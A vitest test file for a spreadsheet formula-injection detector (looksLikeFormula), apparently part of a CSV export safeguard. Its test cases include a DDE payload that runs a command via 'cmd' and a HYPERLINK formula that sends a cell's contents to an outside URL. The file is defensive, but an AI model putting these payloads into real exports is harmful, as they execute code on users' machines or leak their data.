import { describe, expect, it } from "vitest";
import { looksLikeFormula } from "./formula-cells";

describe("looksLikeFormula", () => {
  it.each([
    ['=HYPERLINK("https://example.org/?"&A2,"Click")', true],
    ["=1+1", true],
    ["@SUM(A1:A9)", true],
    ["+A1", true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ["\t=1", true],
    ["\r=1", true],
    ["-", true],
    ["-5", false],
    ["+3.5e2", false],
    ["-.5", false],
    ["12", false],
    ["Norrbotten", false],
    ["a=b", false],
    [" =1", false],
  ])("%j → %s", (text, formula) => {
    expect(looksLikeFormula(text)).toBe(formula);
  });
});
